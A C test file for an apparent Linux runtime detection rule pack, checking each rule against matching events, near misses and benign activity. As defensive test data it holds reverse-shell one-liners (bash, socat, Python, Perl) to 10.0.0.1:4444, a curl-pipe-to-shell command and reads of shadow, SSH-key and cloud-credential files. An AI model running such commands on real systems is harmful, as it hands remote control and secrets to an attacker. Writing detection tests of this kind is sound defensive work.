/* SPDX-License-Identifier: Apache-2.0 */
/*
 * rules_pack_test.c - every rule of the built-in pack (the files of rules/) on an
 * event it is written for and on a near miss it must not fire on, the pack's
 * shape (count, MITRE ids, descriptions, ATT&CK categories), benign events
 * that must raise nothing, and the kernel path-prefix filter built from it.
 * Events are built as src/defend/defend.c builds its views.
 */
#include <linux/types.h>
#include <stdlib.h>

#include "defend/rules.h"
#include "events.h"
#include "harness.h"
#include "sensor/sensor.h"
#include "moat/error.h"

#define CID "c32903aa84117a44ccca2e119cbac829b5952736f15c3ee5b7ccd17698e2dae2"

/* One event: unset strings are absent fields; c = in a container. */
struct ev {
	const char *kind;
	const char *name;
	const char *exe;
	const char *cmd;
	const char *args;
	const char *fd;
	const char *fd2;
	bool write;
	const char *uid;
	const char *euid;
	const char *arg0;
	const char *daddr;
	const char *dport;
	bool c;
	bool sock;                    /* stdin and stdout a TCP connection */
	bool drift;
	const char *in;               /* proc.stdin_type and stdout_type; default pipe (tcp if sock) */
	const char *parent;           /* parent.name */
	const char *anc;              /* proc.ancestors */
};

static void view_of(const struct ev *e, struct moat_rule_view *v)
{
	memset(v, 0, sizeof(*v));
	v->f[MOAT_F_EVT_KIND] = e->kind;
	v->f[MOAT_F_PROC_PID] = "4242";
	v->f[MOAT_F_PROC_PPID] = "4241";
	v->f[MOAT_F_PROC_NAME] = e->name ? e->name : "app";
	v->f[MOAT_F_PROC_EXE] = e->exe ? e->exe : "/usr/bin/app";
	v->f[MOAT_F_PROC_CMDLINE] = e->cmd ? e->cmd : v->f[MOAT_F_PROC_NAME];
	v->f[MOAT_F_USER_UID] = e->uid ? e->uid : "0";
	v->f[MOAT_F_USER_EUID] = e->euid ? e->euid : v->f[MOAT_F_USER_UID];
	v->f[MOAT_F_PARENT_NAME] = e->parent;
	v->f[MOAT_F_PROC_ANCESTORS] = e->anc ? e->anc : "/usr/bin/bash";
	if (e->c) {
		v->f[MOAT_F_CONTAINER_ID] = CID;
		v->f[MOAT_F_CONTAINER_NAME] = "web";
		v->f[MOAT_F_CONTAINER_IMAGE] = "moat-test/app:1";
	}
	if (!strcmp(e->kind, "exec")) {
		v->f[MOAT_F_PROC_STDIN_SOCK] = e->sock ? "true" : "false";
		v->f[MOAT_F_PROC_STDOUT_SOCK] = e->sock ? "true" : "false";
		v->f[MOAT_F_PROC_STDIN_TYPE] = e->in ? e->in : e->sock ? "tcp" : "pipe";
		v->f[MOAT_F_PROC_STDOUT_TYPE] = v->f[MOAT_F_PROC_STDIN_TYPE];
		v->f[MOAT_F_PROC_STDERR_TYPE] = "pipe";
		if (e->in && strcmp(e->in, "pipe") && strcmp(e->in, "chr") && strcmp(e->in, "file"))
			v->f[MOAT_F_PROC_STDIN_SOCK] = v->f[MOAT_F_PROC_STDOUT_SOCK] = "true";
		v->f[MOAT_F_PROC_DRIFT] = e->drift ? "true" : "false";
		v->f[MOAT_F_PROC_ARGS] = e->args ? e->args : "";
	} else if (!strcmp(e->kind, "connect")) {
		v->f[MOAT_F_NET_FAMILY] = e->fd ? "unix" : strchr(e->daddr, ':') ? "inet6" : "inet";
		v->f[MOAT_F_NET_DADDR] = e->fd ? NULL : e->daddr;
		v->f[MOAT_F_NET_DPORT] = e->fd ? NULL : e->dport;
		v->f[MOAT_F_FD_NAME] = e->fd;
	} else if (e->fd) {
		v->f[MOAT_F_FD_NAME] = e->fd;
		v->f[MOAT_F_FD_NAME2] = e->fd2;
		v->f[MOAT_F_FD_WRITE] = e->write ? "true" : "false";
		/* an open as the defender shows it: given path = file name when nothing was resolved */
		if (!strcmp(e->kind, "open"))
			v->f[MOAT_F_FD_OPENED] = e->fd;
	} else {
		v->f[MOAT_F_EVT_ARG0] = e->arg0 ? e->arg0 : "0";
	}
}

#define W .write = true
#define C .c = true

static const struct {
	const char *rule;
	struct ev hit;
	struct ev miss;
} rows[] = {
	/* files.yaml: persistence and sensitive reads */
	{ "write-below-etc-cron", { "open", "sh", .fd = "/etc/cron.d/x", W },
	  { "open", "cat", .fd = "/etc/crontab" } },
	{ "read-shadow", { "open", "cat", .fd = "/etc/shadow", C },
	  { "open", "sshd", .fd = "/etc/shadow" } },
	{ "write-passwd-group", { "open", "sh", .fd = "/etc/passwd", W, C },
	  { "open", "useradd", .fd = "/etc/passwd", W } },
	{ "write-sudoers", { "open", "tee", .fd = "/etc/sudoers.d/evil", W },
	  { "open", "visudo", .fd = "/etc/sudoers", W } },
	{ "write-ld-so-preload", { "rename", "mv", .fd = "/tmp/p", .fd2 = "/etc/ld.so.preload", W },
	  { "open", "ld.so", .fd = "/etc/ld.so.preload" } },
	{ "write-authorized-keys", { "open", "sh", .fd = "/home/alice/.ssh/authorized_keys", W },
	  { "open", "ssh", .fd = "/home/alice/.ssh/known_hosts", W } },
	{ "write-systemd-unit", { "open", "sh", .fd = "/etc/systemd/system/evil.service", W },
	  { "open", "dpkg", .fd = "/lib/systemd/system/ssh.service", W } },
	{ "write-shell-profile", { "open", "sh", .fd = "/etc/profile.d/x.sh", W },
	  { "open", "bash", .fd = "/etc/profile" } },
	{ "write-pam-config", { "open", "sh", .fd = "/etc/pam.d/sshd", W },
	  { "open", "pam-auth-update", .fd = "/etc/pam.d/common-auth", W } },
	{ "clear-shell-history", { "unlink", "rm", .fd = "/root/.bash_history", W },
	  { "open", "bash", .fd = "/root/.bash_history", W } },
	{ "clear-logs-in-container", { "unlink", "rm", .fd = "/var/log/auth.log", W, C },
	  { "unlink", "logrotate", .fd = "/var/log/syslog.2", W } },
	{ "write-binary-dir-in-container", { "open", "cp", .fd = "/usr/bin/ls", W, C },
	  { "open", "dpkg", .fd = "/usr/bin/ls", W, C } },
	{ "read-ssh-private-key", { "open", "cat", .fd = "/root/.ssh/id_ed25519" },
	  { "open", "cat", .fd = "/root/.ssh/id_ed25519.pub" } },
	{ "read-cloud-credentials", { "open", "python3", .fd = "/root/.aws/credentials", C },
	  { "open", "aws", .fd = "/root/.aws/credentials" } },
	{ "read-service-account-token",
	  { "open", "cat", .fd = "/var/run/secrets/kubernetes.io/serviceaccount/token", C },
	  { "open", "kube-proxy", .fd = "/var/run/secrets/kubernetes.io/serviceaccount/token", C } },
	/* escape.yaml */
	{ "docker-socket-in-container", { "connect", "curl", .fd = "/var/run/docker.sock", C },
	  { "connect", "curl", .fd = "/var/run/docker.sock" } },
	{ "write-core-pattern", { "open", "sh", .fd = "/proc/sys/kernel/core_pattern", W, C },
	  { "open", "cat", .fd = "/proc/sys/kernel/core_pattern", C } },
	{ "write-cgroup-release-agent", { "open", "sh", .fd = "/sys/fs/cgroup/rdma/release_agent", W, C },
	  { "open", "sh", .fd = "/sys/fs/cgroup/rdma/cgroup.procs", W, C } },
	{ "write-kernel-usermode-helper", { "open", "sh", .fd = "/proc/sys/kernel/modprobe", W, C },
	  { "open", "sh", .fd = "/proc/sys/kernel/modprobe", W } },
	{ "mount-host-device-in-container", { "mount", "mount", .fd = "/mnt", .fd2 = "/dev/sda1", C },
	  { "mount", "mount", .fd = "/mnt", .fd2 = "proc", C } },
	{ "open-host-device-in-container", { "open", "dd", .fd = "/dev/sda", C },
	  { "open", "dd", .fd = "/dev/zero", C } },
	{ "proc1-root-access-in-container", { "open", "cat", .fd = "/proc/1/root/etc/shadow", C },
	  { "open", "ps", .fd = "/proc/1/stat", C } },
	{ "nsenter-in-container", { "exec", "nsenter", .cmd = "nsenter -t 1 -m sh", C },
	  { "exec", "nsenter", .cmd = "nsenter -t 1 -m sh" } },
	{ "container-runtime-client-in-container", { "exec", "docker", .cmd = "docker ps", C },
	  { "exec", "runc", .cmd = "runc init", C } },
	{ "kernel-module-tool-in-container", { "exec", "insmod", .cmd = "insmod rk.ko", C },
	  { "exec", "insmod", .cmd = "insmod rk.ko" } },
	{ "kernel-module-load-in-container", { "module", C }, { "module" } },
	/* privesc.yaml */
	{ "sudo-in-container", { "exec", "sudo", C }, { "exec", "sudo" } },
	{ "setuid-binary-exec-in-container", { "exec", "passwd", .uid = "1000", .euid = "0", C },
	  { "exec", "passwd", .uid = "1000", C } },
	{ "setuid-root-in-container", { "setuid", .uid = "1000", .euid = "0", .arg0 = "0", C },
	  { "setuid", .uid = "1000", .arg0 = "1000", C } },
	{ "capset-in-container", { "capset", "app", .uid = "1000", C },
	  { "capset", "runc:[2:INIT]", .uid = "1000", C } },
	{ "chmod-setuid-in-container", { "exec", "chmod", .args = "4755 /tmp/sh", C },
	  { "exec", "chmod", .args = "755 /tmp/sh", C } },
	/* process.yaml */
	{ "shell-in-container", { "exec", "bash", .parent = "containerd-shim", C },
	  { "exec", "bash", .parent = "node", C } },
	{ "reverse-shell", { "exec", "bash", .sock = true }, { "exec", "bash", C } },
	{ "reverse-shell-cmdline",
	  { "exec", "bash", .cmd = "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
	  { "exec", "bash", .cmd = "bash -c echo /dev/null" } },
	{ "crypto-miner-args", { "exec", "run", .cmd = "run -o stratum+tcp://pool.example:3333", C },
	  { "exec", "curl", .cmd = "curl https://pool.example/", C } },
	{ "container-drift", { "exec", "dropper", .exe = "/opt/dropper", C, .drift = true },
	  { "exec", "dropper", .exe = "/opt/dropper", .drift = true } },
	{ "ptrace-attach", { "ptrace", "gdb", .arg0 = "16", C }, { "ptrace", "asan_test", .arg0 = "16" } },
	{ "kernel-module-load", { "module", "modprobe" }, { "module", "modprobe", C } },
	{ "namespace-change-in-container", { "setns", "app", C }, { "setns", "runc:[2:INIT]", C } },
	{ "mount-in-container", { "mount", "mount", .fd = "/mnt", C },
	  { "mount", "runc:[2:INIT]", .fd = "/proc", C } },
	{ "bpf-in-container", { "bpf", "app", C }, { "bpf", "app" } },
	{ "crypto-miner-binary", { "exec", "xmrig" }, { "exec", "xmrig-docs" } },
	{ "package-manager-in-container", { "exec", "apt-get", .cmd = "apt-get install nmap", C },
	  { "exec", "apt-get", .cmd = "apt-get install nmap" } },
	{ "recon-tool-in-container", { "exec", "nmap", C }, { "exec", "nmap" } },
	{ "packet-capture-in-container", { "exec", "tcpdump", C }, { "exec", "tcpdump" } },
	{ "download-pipe-to-shell", { "exec", "sh", .cmd = "sh -c curl -s http://x/i.sh | sh" },
	  { "exec", "sh", .cmd = "sh -c curl -o /tmp/i.sh http://x/i.sh" } },
	{ "exec-from-tmp-in-container", { "exec", "x", .exe = "/dev/shm/x", C },
	  { "exec", "x", .exe = "/usr/bin/x", C } },
	{ "fileless-exec-in-container", { "exec", "3", .exe = "/proc/self/fd/3", C },
	  { "exec", "3", .exe = "/proc/self/fd/3" } },
	/* network.yaml */
	{ "crypto-miner-pool-port", { "connect", .daddr = "10.1.2.3", .dport = "14444" },
	  { "connect", .daddr = "10.1.2.3", .dport = "443" } },
	{ "cloud-metadata-from-container",
	  { "connect", "curl", .daddr = "169.254.169.254", .dport = "80", C },
	  { "connect", "curl", .daddr = "169.254.169.254", .dport = "80" } },
	{ "tor-connect", { "connect", .daddr = "2001:db8::1", .dport = "9050" },
	  { "connect", .daddr = "2001:db8::1", .dport = "9000" } },
};

static char src_path[4096];

static struct moat_ruleset *pack(void)
{
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	const char *root = getenv("MOAT_SRC");

	snprintf(src_path, sizeof(src_path), "%s/rules", root ? root : ".");
	CHECK_INT(moat_rules_open(&rs, &err), 0);
	if (rs)
		CHECK_INT(moat_rules_load_dir(rs, src_path, &err), 0);
	if (err.msg[0])
		printf("# %s\n", err.msg);
	return rs;
}

static const struct moat_rule *find(const struct moat_ruleset *rs, const char *id)
{
	for (size_t i = 0; i < moat_rules_count(rs); i++)
		if (!strcmp(moat_rules_get(rs, i)->id, id))
			return moat_rules_get(rs, i);
	return NULL;
}

static void test_pack__every_rule(void)
{
	struct moat_ruleset *rs = pack();
	struct moat_rule_view v;

	if (!rs)
		return;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct moat_rule *r = find(rs, rows[i].rule);
		bool hit;
		bool miss;

		CHECK(r != NULL);
		if (!r) {
			printf("# no rule %s\n", rows[i].rule);
			continue;
		}
		view_of(&rows[i].hit, &v);
		hit = moat_rule_matches(r, &v);
		view_of(&rows[i].miss, &v);
		miss = moat_rule_matches(r, &v);
		if (!hit || miss)
			printf("# %s: hit %d, near miss %d\n", r->id, hit, miss);
		CHECK(hit);
		CHECK(!miss);
	}
	moat_rules_close(rs);
}

/* Every rule has a test row, MITRE ids and a description; the categories are all there. */
static void test_pack__shape(void)
{
	static const char *const must[] = {
		"T1059.004", "T1496", "T1548.001", "T1548.003", "T1611", "T1053.003", "T1543.002",
		"T1098.004", "T1574.006", "T1003.008", "T1552.001", "T1528", "T1105", "T1547.006",
		"T1055.008", "T1610",
	};
	struct moat_ruleset *rs = pack();

	if (!rs)
		return;
	CHECK(moat_rules_count(rs) >= 40);
	CHECK_INT(moat_rules_count(rs), sizeof(rows) / sizeof(rows[0]));
	for (size_t i = 0; i < moat_rules_count(rs); i++) {
		const struct moat_rule *r = moat_rules_get(rs, i);
		bool tested = false;

		for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++)
			tested |= !strcmp(rows[k].rule, r->id);
		if (!tested || r->n_mitre == 0 || strlen(r->description) < 20)
			printf("# %s: tested %d, %zu mitre ids\n", r->id, tested, r->n_mitre);
		CHECK(tested);
		CHECK(r->n_mitre > 0);
		CHECK(strlen(r->description) >= 20);
		for (size_t m = 0; m < r->n_mitre; m++)
			CHECK(r->mitre[m][0] == 'T' && strlen(r->mitre[m]) >= 5);
	}
	for (size_t k = 0; k < sizeof(must) / sizeof(must[0]); k++) {
		bool seen = false;

		for (size_t i = 0; i < moat_rules_count(rs); i++)
			for (size_t m = 0; m < moat_rules_get(rs, i)->n_mitre; m++)
				seen |= !strcmp(moat_rules_get(rs, i)->mitre[m], must[k]);
		if (!seen)
			printf("# no rule maps to %s\n", must[k]);
		CHECK(seen);
	}
	moat_rules_close(rs);
}

/* Ordinary work of a web container and of the host: the whole pack stays quiet. */
static void test_pack__benign(void)
{
	static const struct ev quiet[] = {
		{ "exec", "python3", .exe = "/usr/bin/python3", .cmd = "python3 -m http.server",
		  .uid = "65534", C },
		{ "open", "python3", .fd = "/etc/ld.so.cache", C },
		{ "open", "python3", .fd = "/etc/hosts", C },
		{ "open", "python3", .fd = "/tmp/upload.bin", W, C },
		{ "connect", "curl", .daddr = "93.184.216.34", .dport = "443", C },
		{ "exec", "bash", .exe = "/usr/bin/bash" },
		{ "open", "bash", .fd = "/root/.bashrc" },
		{ "open", "sshd", .fd = "/etc/ssh/ssh_host_ed25519_key" },
		{ "exec", "runc:[2:INIT]", .cmd = "runc init", C },
		/* runc re-executing its own memfd copy (CVE-2019-5736 defence) */
		{ "exec", "runc", .exe = "/dev/fd/6", .cmd = "runc init", C },
		{ "setuid", "runc:[2:INIT]", .cmd = "runc init", .arg0 = "0", .uid = "1000", C },
		{ "open", "dockerd", .fd = "/sys/fs/cgroup/system.slice/cgroup.procs", W },
		{ "ptrace", "gdb", .arg0 = "16" },
		{ "exec", "apt-get", .cmd = "apt-get update" },
		/* shells that node (libuv), node-gyp and ninja start on socketpairs */
		{ "exec", "sh", .cmd = "/bin/sh -c make", .in = "unix", .parent = "node" },
		{ "exec", "python3", .cmd = "python3 job.py", .in = "unix", .parent = "node", C },
		{ "exec", "bash", .cmd = "bash", .in = "listen", .parent = "systemd" },
		{ "exec", "python3", .cmd = "python3 -c import socket; print(1)" },
		/* the host's package manager and configuration tools reading the account files */
		{ "open", "perl", .fd = "/etc/shadow",
		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get /usr/bin/bash" },
		{ "open", "frontend", .exe = "/usr/bin/perl", .fd = "/etc/shadow",
		  .cmd = "/usr/bin/perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/x.config" },
		{ "open", "cp", .fd = "/etc/shadow",
		  .anc = "/usr/bin/dash /usr/bin/run-parts /usr/sbin/cron" },
		{ "open", "useradd", .exe = "/usr/sbin/useradd", .fd = "/etc/passwd", W,
		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get" },
		{ "open", "dpkg", .exe = "/usr/bin/dpkg", .fd = "/etc/cron.d/x", W,
		  .anc = "/usr/bin/apt-get /usr/bin/bash" },
	};
	struct moat_ruleset *rs = pack();
	struct moat_rule_view v;

	if (!rs)
		return;
	for (size_t k = 0; k < sizeof(quiet) / sizeof(quiet[0]); k++) {
		view_of(&quiet[k], &v);
		for (size_t i = 0; i < moat_rules_count(rs); i++) {
			const struct moat_rule *r = moat_rules_get(rs, i);

			if (moat_rule_matches(r, &v))
				printf("# benign event %zu fired %s\n", k, r->id);
			CHECK(!moat_rule_matches(r, &v));
		}
	}
	moat_rules_close(rs);
}

/* Reverse shells the socket type alone does not show, and the host
 * exceptions not reaching into containers. */
static void test_pack__attacks(void)
{
	static const struct {
		const char *rule;
		struct ev e;
	} hits[] = {
		/* socat TCP:h:p EXEC:bash, ncat -e: the shell sits on a socketpair */
		{ "reverse-shell", { "exec", "bash", .in = "unix", .parent = "socat" } },
		{ "reverse-shell", { "exec", "sh", .in = "pipe", .parent = "ncat", C } },
		{ "reverse-shell", { "exec", "sh", .in = "udp" } },
		{ "reverse-shell-cmdline",
		  { "exec", "socat", .cmd = "socat TCP:10.0.0.1:4444 EXEC:bash" } },
		{ "reverse-shell-cmdline", { "exec", "python3",
		  .cmd = "python3 -c import socket,os,pty;s=socket.socket();"
		  "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);"
		  "pty.spawn(\"/bin/sh\")" } },
		{ "reverse-shell-cmdline", { "exec", "perl", .cmd = "perl -e use Socket;"
		  "socket(S,PF_INET,SOCK_STREAM,6);"
		  "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));"
		  "open(STDIN,\">&S\");exec(\"/bin/sh -i\");" } },
		/* in a container a package manager's child reading shadow still counts */
		{ "read-shadow", { "open", "perl", .fd = "/etc/shadow", C,
		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get" } },
		{ "read-shadow", { "open", "cat", .fd = "/etc/shadow", .anc = "/usr/bin/bash" } },
	};
	struct moat_ruleset *rs = pack();
	struct moat_rule_view v;

	if (!rs)
		return;
	for (size_t k = 0; k < sizeof(hits) / sizeof(hits[0]); k++) {
		const struct moat_rule *r = find(rs, hits[k].rule);

		CHECK(r != NULL);
		if (!r)
			continue;
		view_of(&hits[k].e, &v);
		if (!moat_rule_matches(r, &v))
			printf("# attack %zu missed by %s\n", k, r->id);
		CHECK(moat_rule_matches(r, &v));
	}
	moat_rules_close(rs);
}

static void test_pack__prefixes(void)
{
	static const struct {
		const char *path;
		__u32 mode;
		bool want;
	} paths[] = {
		{ "/etc/shadow", MOAT_PREFIX_READ, true },
		{ "/etc/gshadow", MOAT_PREFIX_READ, true },
		{ "/etc/passwd", MOAT_PREFIX_WRITE, true },
		{ "/etc/sudoers.d/x", MOAT_PREFIX_WRITE, true },
		{ "/etc/ld.so.preload", MOAT_PREFIX_WRITE, true },
		{ "/etc/cron.d/x", MOAT_PREFIX_WRITE, true },
		{ "/etc/systemd/system/x.service", MOAT_PREFIX_WRITE, true },
		{ "/root/.ssh/authorized_keys", MOAT_PREFIX_WRITE, true },
		{ "/root/.ssh/id_rsa", MOAT_PREFIX_READ, true },
		{ "/root/.aws/credentials", MOAT_PREFIX_READ, true },
		{ "/proc/sys/kernel/core_pattern", MOAT_PREFIX_WRITE, true },
		{ "/sys/fs/cgroup/rdma/release_agent", MOAT_PREFIX_WRITE, true },
		{ "/proc/1/root/etc/shadow", MOAT_PREFIX_READ, true },
		{ "/var/run/docker.sock", MOAT_PREFIX_READ, true },
		{ "/var/run/secrets/kubernetes.io/serviceaccount/token", MOAT_PREFIX_READ, true },
		{ "/dev/sda", MOAT_PREFIX_READ, true },
		{ "/usr/bin/ls", MOAT_PREFIX_WRITE, true },
		/* what every process reads: must stay in the kernel */
		{ "/etc/ld.so.cache", MOAT_PREFIX_READ, false },
		{ "/etc/passwd", MOAT_PREFIX_READ, false },
		{ "/etc/nsswitch.conf", MOAT_PREFIX_READ, false },
		{ "/usr/lib/x86_64-linux-gnu/libc.so.6", MOAT_PREFIX_READ, false },
		{ "/dev/null", MOAT_PREFIX_READ, false },
		{ "/proc/1/stat", MOAT_PREFIX_READ, false },
		{ "/tmp/x", MOAT_PREFIX_WRITE, false },
	};
	struct moat_ev_prefix p[MOAT_EV_PREFIX_MAX];
	struct moat_ev_prefix *wide = calloc(512, sizeof(*wide));
	struct moat_ruleset *rs = pack();
	size_t n;

	if (!rs || !wide) {
		free(wide);
		moat_rules_close(rs);
		return;
	}
	printf("# %zu prefixes before merging\n", moat_rules_prefixes(rs, wide, 512));
	n = moat_rules_prefixes(rs, p, MOAT_EV_PREFIX_MAX);
	CHECK(n > 0 && n <= MOAT_EV_PREFIX_MAX);
	for (size_t i = 0; i < n; i++) {
		CHECK_INT(strlen(p[i].p), p[i].len);
		CHECK(p[i].len >= 4);
	}
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		bool got = moat_prefixes_report(p, n, paths[i].path, paths[i].mode);

		if (got != paths[i].want)
			printf("# %s (mode %u): reported %d\n", paths[i].path, paths[i].mode, got);
		CHECK_INT(got, paths[i].want);
	}
	free(wide);
	moat_rules_close(rs);
}

int main(void)
{
	MOAT_RUN(test_pack__every_rule);
	MOAT_RUN(test_pack__shape);
	MOAT_RUN(test_pack__benign);
	MOAT_RUN(test_pack__attacks);
	MOAT_RUN(test_pack__prefixes);
	return moat_test_done();
}
